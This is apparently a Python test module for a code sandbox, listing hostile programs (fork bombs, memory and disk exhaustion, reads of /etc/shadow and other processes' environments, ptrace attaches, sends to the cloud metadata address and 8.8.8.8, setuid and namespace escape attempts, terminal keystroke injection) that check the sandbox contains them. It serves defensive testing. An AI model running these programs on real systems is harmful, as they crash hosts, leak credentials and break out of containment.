"""Programs that try to escape, to learn, to stay, or to use more than they may, and what must become of each.

A program gets what it needs to know of the host as JSON on its standard input, and prints as JSON what it has achieved:
an object whose values are all false where the sandbox held.
"""

from collections.abc import Mapping
from dataclasses import dataclass, field

from rollgym.sandbox.core.base import Language, Outcome, Program
from rollgym.sandbox.core.limits import Limits

SHORT = Limits(wall_seconds=30, memory_mb=256, pids=32, disk_mb=16, inodes=512, open_files=64, output_kb=64)

BRIEF = Limits(wall_seconds=0.7, memory_mb=256, pids=32, disk_mb=16, inodes=512, open_files=64, output_kb=64)

# What most programs begin with.
_PRELUDE = """
import ctypes, errno, glob, json, os, resource, signal, socket, struct, subprocess, sys, threading, time
host = json.loads(sys.stdin.read() or "{}")
libc = ctypes.CDLL(None, use_errno=True)
def works(action, *arguments):
    try:
        result = action(*arguments)
    except (OSError, ValueError, MemoryError, RuntimeError):
        return False
    return result is None or bool(result)
def reads(path):
    with open(path, "rb") as file:
        return file.read(1 << 16)
def writes(path, text="1"):
    with open(path, "r+b", buffering=0) as file:
        file.write(text.encode())
def report(**achieved):
    print(json.dumps({name: bool(value) for name, value in achieved.items()}), flush=True)
"""


@dataclass(frozen=True, slots=True)
class Hostile:
    """A program and what must become of it.

    Attributes:
        program: The program.
        outcomes: The outcomes of which one must come; None where its report is what counts.
        limits: Of the run.
        files: In its working directory.
        collect: Files to ask for.
        bounded_disk: Whether it is for back-ends that bound the sum of files, or for those that do not; None for all.
        not_for: Back-ends that do not withstand it, though none of their guarantees says so.
    """

    program: Program
    outcomes: frozenset[Outcome] | None = None
    limits: Limits = SHORT
    files: Mapping[str, bytes] = field(default_factory=dict)
    collect: tuple[str, ...] = ()
    bounded_disk: bool | None = None
    not_for: frozenset[str] = frozenset()


def _python(body: str, *outcomes: Outcome, **settings: object) -> Hostile:
    return _hostile("python", _PRELUDE + body, outcomes, settings)


def _bash(body: str, *outcomes: Outcome, **settings: object) -> Hostile:
    return _hostile("bash", body, outcomes, settings)


def _cpp(body: str, *outcomes: Outcome, **settings: object) -> Hostile:
    return _hostile("cpp", body, outcomes, settings)


def _hostile(
    language: Language, body: str, outcomes: tuple[Outcome, ...], settings: dict[str, object]
) -> Hostile:
    return Hostile(Program(language, body), frozenset(outcomes) or None, **settings)  # type: ignore[arg-type]


_ENDED = (Outcome.TIME_LIMIT, Outcome.PIDS_LIMIT, Outcome.MEMORY_LIMIT, Outcome.NON_ZERO_EXIT)
_OUT_OF_MEMORY = (Outcome.MEMORY_LIMIT,)

PROCESSES: dict[str, Hostile] = {
    "fork bomb": _python("while True: os.fork()", *_ENDED, limits=BRIEF),
    "fork bomb of a shell": _bash("bomb() { bomb | bomb & }; bomb; wait; sleep 9", *_ENDED, limits=BRIEF),
    "thread bomb": _python(
        """
count = 0
try:
    while True:
        threading.Thread(target=time.sleep, args=(9,), daemon=True).start()
        count += 1
except RuntimeError:
    pass
report(too_many=count > 40)
"""
    ),
    "detached twice": _python(
        """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for descriptor in range(3): os.close(descriptor)
        os.execv("/bin/sleep", ["sleep", host["duration"]])
    os._exit(0)
report()
"""
    ),
    "nohup": _bash(
        'read -r line; d=$(grep -o \'"duration": "[0-9.]*\' <<< "$line"); nohup sleep "${d##*\\"}" '
        "> /dev/null 2>&1 & disown; echo {}"
    ),
    "output held by a child": _python(
        """
if os.fork() == 0:
    os.setsid()
    os.execv("/bin/sleep", ["sleep", host["duration"]])
report()
"""
    ),
    "endless new processes": _python(
        """
def again():
    while True:
        if os.fork(): os._exit(0)
        os.setsid()
if os.fork() == 0: again()
report()
"""
    ),
    "signals to everyone": _python(
        """
for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for target in (1, os.getppid(), host["sentinel"], host["server"]):
        if target > 0: works(os.kill, target, number)
report()
""",
    ),
    "signals to all": _python(
        "signal.signal(signal.SIGTERM, signal.SIG_IGN); works(os.kill, -1, 15); "
        "works(os.kill, -1, 9); report()",
        Outcome.OK,
        Outcome.NON_ZERO_EXIT,
    ),
    "spin that ignores signals": _python(
        "for n in (1, 2, 3, 10, 12, 13, 14, 15, 24): signal.signal(n, signal.SIG_IGN)\nwhile True: pass",
        Outcome.TIME_LIMIT,
        limits=Limits(wall_seconds=0.5, memory_mb=256),
    ),
    "spinning children": _python(
        "for _ in range(8): os.fork() or exec('while True: pass')\nwhile True: pass",
        Outcome.TIME_LIMIT,
        limits=Limits(wall_seconds=0.5, memory_mb=256),
    ),
    "sleep": _bash("sleep 60", Outcome.TIME_LIMIT, limits=Limits(wall_seconds=0.3)),
    "parent that waits in vfork": _cpp(
        "#include <unistd.h>\nint main() { if (vfork() == 0) { for (;;) pause(); } }",
        Outcome.TIME_LIMIT,
        limits=Limits(wall_seconds=0.5),
    ),
    "closes its streams and hangs": _python(
        "for descriptor in range(3): os.close(descriptor)\ntime.sleep(60)",
        Outcome.TIME_LIMIT,
        limits=Limits(wall_seconds=0.5),
    ),
    "kills itself": _python("os.kill(os.getpid(), signal.SIGKILL)", Outcome.NON_ZERO_EXIT),
}

MEMORY: dict[str, Hostile] = {
    "one process": _python("data = bytearray()\nwhile True: data += bytes(8 << 20)", *_OUT_OF_MEMORY),
    "children together": _python(
        """
for _ in range(8):
    if os.fork() == 0:
        data = bytearray(os.urandom(1 << 20)) * 128
        time.sleep(20)
        os._exit(0)
for _ in range(8):
    if os.wait()[1]: os._exit(9)
""",
        Outcome.MEMORY_LIMIT,
        limits=Limits(wall_seconds=30, memory_mb=256, pids=32),
    ),
    "nameless files": _python(
        """
made = 0
try:
    for _ in range(32):
        file = os.memfd_create("m")
        os.write(file, bytes(32 << 20))
        made += 1
except OSError:
    pass
report(made=made > 8)
""",
    ),
    "shared memory of System V": _python(
        """
def take():
    for _ in range(16):
        segment = libc.shmget(0, ctypes.c_size_t(64 << 20), 0o1600)
        if segment < 0: return False
        libc.shmat.restype = ctypes.c_void_p
        address = libc.shmat(segment, None, 0)
        ctypes.memset(address, 1, 64 << 20)
        libc.shmdt(ctypes.c_void_p(address))
    return True
report(made=take())
"""
    ),
    "files in memory": _python(
        """
def fill(place):
    with open(place, "wb", buffering=0) as file:
        for _ in range(64): file.write(bytes(4 << 20))
report(shm=works(fill, "/dev/shm/f"), tmp=works(fill, os.environ["TMPDIR"] + "/f"))
"""
    ),
    "deep recursion": _cpp(
        "int deep(volatile int n) { volatile char room[4096]; room[0] = n; return deep(n + 1) + room[0]; }\n"
        "int main() { return deep(0); }",
        Outcome.NON_ZERO_EXIT,
        Outcome.MEMORY_LIMIT,
    ),
}

ROOM: dict[str, Hostile] = {
    "descriptors": _python(
        """
opened = []
try:
    while len(opened) < 1000: opened.append(os.open("/dev/null", os.O_RDONLY))
except OSError as error:
    report(limit=error.errno != errno.EMFILE)
else:
    report(limit=True)
"""
    ),
    "one large file": _python(
        """
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
def fill():
    with open("large", "wb", buffering=0) as file:
        for _ in range(40): file.write(bytes(1 << 20))
report(filled=works(fill), size=os.path.getsize("large") > (20 << 20))
"""
    ),
    "many files": _python(
        """
def fill():
    for number in range(40):
        with open(f"part{number}", "wb", buffering=0) as file:
            if file.write(bytes(1 << 20)) < 1 << 20: raise OSError
report(filled=works(fill))
""",
        bounded_disk=True,
    ),
    "inodes": _python(
        """
def fill():
    for number in range(2000): os.mkdir(f"d{number}")
report(filled=works(fill))
""",
        bounded_disk=True,
        not_for=frozenset({"bubblewrap"}),
    ),
    "one file that fills the disk": _python(
        "file = open('f', 'wb', buffering=0)\nwhile file.write(bytes(1 << 20)) == 1 << 20: pass\nraise OSError",
        Outcome.DISK_LIMIT,
        bounded_disk=True,
    ),
    "directories without an end": _python(
        """
def dig():
    for number in range(1200):
        os.mkdir("d")
        os.chdir("d")
works(dig)
os.chmod(".", 0)
works(os.chmod, "/work/d", 0)
report()
""",
        Outcome.OK,
        Outcome.TIME_LIMIT,
        limits=Limits(wall_seconds=30, inodes=4096),
    ),
    "many files on the host's disk": _bash(
        "for i in $(seq 30); do head -c 1000000 /dev/zero > f$i; done; sleep 60",
        Outcome.DISK_LIMIT,
        bounded_disk=False,
    ),
    "full disk is said": _bash(
        "for i in $(seq 40); do head -c 1000000 /dev/zero > f$i || exit 1; done",
        Outcome.DISK_LIMIT,
        bounded_disk=True,
    ),
}

RESULTS: dict[str, Hostile] = {
    "traps among results": _python(
        """
os.symlink("/etc/passwd", "link"); os.symlink(host["secret"], "secret"); os.symlink("/", "up")
os.mkfifo("pipe")
open("twin", "w").write("x"); os.link("twin", "hard")
with open("sparse", "wb") as file: works(file.truncate, 12 << 20)
os.mkdir("directory"); open("plain", "w").write("plain")
report()
""",
        collect=(
            "link",
            "secret",
            "up/etc/passwd",
            "pipe",
            "hard",
            "sparse",
            "directory",
            "plain",
            "../main.py",
            "/etc/passwd",
            "missing",
            "",
        ),
    ),
}

SECRETS: dict[str, Hostile] = {
    "files of the host": _python(
        """
secret = host["secret"]
ways = [secret, "/proc/1/root" + secret, "/proc/self/root" + secret, "/work/../.." + secret,
        f"/proc/{host['server']}/root{secret}", f"/proc/{host['server']}/cwd", "/old" + secret]
files = ["/etc/shadow", "/etc/ssh/sshd_config", "/root", "/home/.", "/var/log", "/run/docker.sock", "/sys/kernel"]
if host["backend"] == "docker": files.remove("/var/log")  # That is the image's.
report(**{way: works(reads, way) for way in ways},
       **{path: works(os.listdir, path) or works(reads, path) for path in files},
       written=works(lambda: open(secret, "w")), removed=works(os.unlink, secret))
"""
    ),
    "secrets in environments": _python(
        """
seen = "".join(f"{k}={v}" for k, v in os.environ.items()).encode()
for path in glob.glob("/proc/[0-9]*/environ"):
    try: seen += reads(path)
    except OSError: pass
report(found=host["token"].encode() in seen)
"""
    ),
    "processes of the host": _python(
        """
def all_lines():
    found = b""
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try: found += reads(path)
        except OSError: pass
    return found
report(token=host["token"].encode() in all_lines(), launcher=b"launcher" in all_lines())
"""
    ),
    "memory of the supervisor": _python(
        """
parents = {1, os.getppid(), host["server"], host["sentinel"]} - {0}
buffer = ctypes.create_string_buffer(64)
class Vector(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
vector = Vector(ctypes.addressof(buffer), 64)
report(mem=any(works(open, f"/proc/{p}/mem", "rb") for p in parents),
       maps=any(works(reads, f"/proc/{p}/maps") for p in parents),
       attach=any(libc.ptrace(16, p, None, None) == 0 for p in parents),
       seize=any(libc.ptrace(0x4206, p, None, None) == 0 for p in parents),
       read=any(libc.process_vm_readv(p, ctypes.byref(vector), 1, ctypes.byref(vector), 1, 0) > 0 for p in parents),
       fds=any(works(os.listdir, f"/proc/{p}/fd") for p in parents))
"""
    ),
    "inherited descriptors": _python(
        """
open_ones = []
for descriptor in range(3, 1024):
    try: os.fstat(descriptor); open_ones.append(descriptor)
    except OSError: pass
report(found=open_ones)
"""
    ),
    "system": _python(
        """
paths = ["/proc/kcore", "/proc/kmsg", "/dev/kmsg", "/dev/mem", "/dev/vda", "/dev/sda", "/dev/kvm", "/dev/vsock",
         "/dev/fuse", "/dev/net/tun", "/dev/ptmx" if host["backend"] not in ("bubblewrap", "docker") else "/dev/mem"]
switches = ["/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory",
            "/proc/sys/kernel/shmmax", "/proc/sys/fs/mqueue/msg_max", "/proc/sysrq-trigger", "/proc/1/oom_score_adj",
            "/proc/sys/net/ipv4/ip_forward", "/proc/sys/user/max_user_namespaces"]
groups = glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)
report(**{p: works(lambda: open(p, "rb").read(1)) for p in paths}, **{p: works(writes, p) for p in switches},
       groups=any(works(writes, g, str(os.getpid())) for g in groups),
       usr=works(lambda: open("/usr/bin/planted", "w")), etc=works(lambda: open("/etc/passwd", "w")),
       root=works(lambda: open("/planted", "w")), dev=works(lambda: open("/dev/planted", "w")),
       node=works(os.mknod, "node", 0o60666, os.makedev(8, 0)) and works(reads, "node"),
       null=works(os.unlink, "/dev/null"), python=works(os.chmod, "/usr/bin/env", 0o4777))
"""
    ),
}

NETWORK: dict[str, Hostile] = {
    "addresses": _python(
        """
def connects(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(0.5)
        return connection.connect_ex(address) == 0
def sends(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(host["token"].encode(), address)
works(sends, ("127.0.0.1", host["port"]))
report(loopback=works(connects, socket.AF_INET, ("127.0.0.1", host["port"])),
       loopback6=works(connects, socket.AF_INET6, ("::1", host["port"])),
       address=works(connects, socket.AF_INET, (host["address"], host["port"])),
       metadata=works(connects, socket.AF_INET, ("169.254.169.254", 80)),
       metadata_udp=works(sends, ("169.254.169.254", 80)), outside_udp=works(sends, ("8.8.8.8", 53)),
       abstract=works(connects, socket.AF_UNIX, chr(0) + host["abstract"]),
       path=works(connects, socket.AF_UNIX, host["path"]),
       docker=works(connects, socket.AF_UNIX, "/var/run/docker.sock"),
       name=works(lambda: socket.getaddrinfo("localhost.localdomain.example.org", 80)))
"""
    ),
    "families": _python(
        """
def made(*arguments):
    socket.socket(*arguments).close()
families = {"vsock": 40, "alg": 38, "packet": 17, "bluetooth": 31, "can": 29, "key": 15, "rds": 21, "tipc": 30,
            "xdp": 44, "nfc": 39, "qipcrtr": 42, "smc": 43, "x25": 9, "kcm": 41}
report(**{name: works(made, number, kind) for name, number in families.items() for kind in (1, 2, 3, 5)},
       raw=works(made, socket.AF_INET, socket.SOCK_RAW, 1), audit=works(made, 16, 3, 9),
       netfilter=works(made, 16, 3, 12), uevent=works(made, 16, 2, 15))
"""
    ),
    "server inside": _python(
        """
server = works(lambda: socket.create_server(("0.0.0.0", host["free_port"])))
report()
time.sleep(0.2)
"""
    ),
}

PRIVILEGES: dict[str, Hostile] = {
    "status": _python(
        """
try: lines = dict(line.split(":", 1) for line in open("/proc/self/status"))
except OSError: lines = None
capabilities = lines and any(int(lines[n], 16) for n in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"))
report(root=0 in os.getresuid() + os.getresgid(), capabilities=capabilities,
       gains=lines and lines["NoNewPrivs"].strip() != "1", filter=lines and lines["Seccomp"].strip() != "2",
       becomes=works(os.setuid, 0) or works(os.setgid, 0) or works(os.setgroups, [0]))
"""
    ),
    "programs with set-uid bits": _bash(
        "for p in /usr/bin/su /usr/bin/mount /usr/bin/sudo /usr/bin/passwd; do [ -u $p ] && "
        "{ id=$($p --version > /dev/null 2>&1; grep -s ^Uid /proc/self/status); }; done; "
        'cp /bin/bash ./mine; chmod 6755 ./mine; [ "$(./mine -p -c "echo $EUID" 2> /dev/null)" = 0 ] && '
        'echo "{\\"root\\": true}" || echo "{}"'
    ),
    "namespaces and mounts": _cpp(
        r"""
#include <cstdio>
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include <cstring>
struct Args { unsigned long long flags, pidfd, ctid, ptid, exit, stack, size, tls, tid, tidsize, group; };
int main() {
  long flags[] = {0x10000000, 0x20000, 0x20000000, 0x40000000, 0x8000000, 0x4000000, 0x2000000, 0x80};
  int unshared = 0, cloned = 0, cloned3 = 0;
  for (long flag : flags) {
    unshared |= unshare(flag) == 0;
    if (flag != 0x80) {
      long child = syscall(SYS_clone, flag | SIGCHLD, 0, 0, 0, 0);
      if (child == 0) _exit(0);
      cloned |= child > 0;
    }
    Args args; memset(&args, 0, sizeof args); args.flags = flag; args.exit = SIGCHLD;
    long third = syscall(435, &args, sizeof args);
    if (third == 0) _exit(0);
    cloned3 |= third > 0;
  }
  int mounted = mount("none", "/tmp", "tmpfs", 0, 0) == 0, bound = mount("/usr", "/tmp", 0, MS_BIND, 0) == 0;
  int again = mount(0, "/usr", 0, MS_REMOUNT | MS_BIND, 0) == 0, off = umount2("/proc", MNT_DETACH) == 0;
  int root = chroot("/tmp") == 0, pivot = syscall(SYS_pivot_root, "/tmp", "/tmp") == 0;
  int opened = syscall(430, "tmpfs", 0) >= 0, tree = syscall(428, -100, "/", 1) >= 0;
  int entered = setns(0, 0) == 0;
  printf("{\"unshare\": %d, \"clone\": %d, \"clone3\": %d, \"mount\": %d, \"bind\": %d, \"remount\": %d, "
         "\"umount\": %d, "
         "\"chroot\": %d, \"pivot\": %d, \"fsopen\": %d, \"open_tree\": %d, \"setns\": %d}\n",
         unshared, cloned, cloned3, mounted, bound, again, off, root, pivot, opened, tree, entered);
}
"""
    ),
    "rare system calls": _python(
        """
numbers = {"x86_64": dict(io_uring_setup=425, io_uring_enter=426, io_uring_register=427, bpf=321, userfaultfd=323,
    perf_event_open=298, keyctl=250, add_key=248, request_key=249, kexec_load=246, init_module=175,
    finit_module=313, delete_module=176, open_by_handle_at=304, name_to_handle_at=303, quotactl=179, kcmp=312,
    pidfd_getfd=438, process_vm_readv=310, process_madvise=440, swapon=167, reboot=169, acct=163, iopl=172,
    settimeofday=164, clock_settime=227, adjtimex=159, sethostname=170, syslog=103, memfd_create=319,
    memfd_secret=447, fanotify_init=300, lookup_dcookie=212, modify_ldt=154, personality=135, mbind=237,
    move_pages=279, ptrace=101, setns=308, mount_setattr=442, statmount=457, listmount=458, unknown=600)}
calls = numbers.get(os.uname().machine, {})
buffer = ctypes.create_string_buffer(4096)
refused = (errno.EPERM, errno.ENOSYS, errno.EACCES)
def passes(number):
    ctypes.set_errno(0)
    return libc.syscall(number, buffer, buffer, 0, 0, 0, 0) >= 0 or ctypes.get_errno() not in refused
report(**{name: passes(number) for name, number in calls.items()})
"""
    ),
    "calls of other machines": _cpp(
        r"""
#include <cstdio>
#include <sys/wait.h>
#include <unistd.h>
int main() {
  int passed = 0;
#ifdef __x86_64__
  if (fork() == 0) {  // getpid of 32-bit programs
    long result = 20;
    asm volatile("int $0x80" : "+a"(result) : : "memory");
    _exit(result > 0 ? 7 : 0);
  }
  int status; wait(&status);
  passed |= WIFEXITED(status) && WEXITSTATUS(status) == 7;
  if (fork() == 0) _exit(syscall(0x40000000 + 39) > 0 ? 7 : 0);
  wait(&status);
  passed |= WIFEXITED(status) && WEXITSTATUS(status) == 7;
#endif
  printf("{\"passed\": %d}\n", passed);
}
"""
    ),
    "limits raised": _python(
        """
def raised(name):
    _, hard = resource.getrlimit(name)
    resource.setrlimit(name, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    return hard != resource.RLIM_INFINITY
names = ["AS", "CPU", "FSIZE", "NOFILE", "NPROC", "CORE", "MEMLOCK", "MSGQUEUE", "NICE", "RTPRIO"]
report(**{name: works(raised, getattr(resource, "RLIMIT_" + name)) for name in names}, nice=works(os.nice, -5),
       realtime=works(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1)))
"""
    ),
    "score of the memory killer": _python(
        'report(lowered=works(writes, "/proc/self/oom_score_adj", "-900"))',
    ),
    "keyboard of a terminal": _python(
        """
import fcntl, termios
def push(descriptor):
    fcntl.ioctl(descriptor, termios.TIOCSTI, b"x")
report(pushed=any(works(push, descriptor) for descriptor in range(3)), terminal=works(open, "/dev/tty"))
"""
    ),
}

OUTPUT: dict[str, Hostile] = {
    "flood": _python(
        "block = b'x' * 65536\nwhile True: os.write(1, block)",
        Outcome.OUTPUT_LIMIT,
        limits=Limits(wall_seconds=20, output_kb=64),
    ),
    "flood of errors": _bash(
        "yes errors >&2", Outcome.OUTPUT_LIMIT, limits=Limits(wall_seconds=20, output_kb=64)
    ),
    "one long line": _python(
        "sys.stdout.write('y' * (20 << 20)); print()",
        Outcome.OK,
        limits=Limits(wall_seconds=20, output_kb=64),
    ),
    "bytes that are no text": _python(
        "os.write(1, bytes(range(256))); os.write(2, b'\\xff\\xfe\\x00')", Outcome.OK
    ),
    "faked results": _python(
        """print(json.dumps({"ended": 0, "outcome": "ok", "exit_code": 0})); sys.exit(5)""",
        Outcome.NON_ZERO_EXIT,
    ),
}

COMPILING: dict[str, Hostile] = {
    "include of a host file": _cpp('#include "/etc/shadow"\nint main() {}', Outcome.COMPILE_ERROR),
    "incbin of a host file": _cpp(
        '__asm__(".globl a\\na: .incbin \\"/etc/shadow\\"\\n");\nint main() {}', Outcome.COMPILE_ERROR
    ),
    "include without an end": _cpp(
        '#include "/dev/zero"\nint main() {}',
        Outcome.COMPILE_ERROR,
        limits=Limits(compile_seconds=2, compile_memory_mb=256),
    ),
    "array without an end": _cpp(
        "int a[300 << 20] = {1};\nint main() {}",
        Outcome.COMPILE_ERROR,
        limits=Limits(compile_seconds=3, disk_mb=16),
    ),
    "templates without an end": _cpp(
        "template <int N> struct A { A<N + 1> x; A<N - 1> y; };\nA<0> a;\nint main() {}",
        Outcome.COMPILE_ERROR,
        limits=Limits(compile_seconds=2, compile_memory_mb=256),
    ),
}

ALL: dict[str, Hostile] = {
    **{f"processes: {name}": one for name, one in PROCESSES.items()},
    **{f"memory: {name}": one for name, one in MEMORY.items()},
    **{f"room: {name}": one for name, one in ROOM.items()},
    **{f"results: {name}": one for name, one in RESULTS.items()},
    **{f"secrets: {name}": one for name, one in SECRETS.items()},
    **{f"network: {name}": one for name, one in NETWORK.items()},
    **{f"privileges: {name}": one for name, one in PRIVILEGES.items()},
    **{f"output: {name}": one for name, one in OUTPUT.items()},
    **{f"compiling: {name}": one for name, one in COMPILING.items()},
}
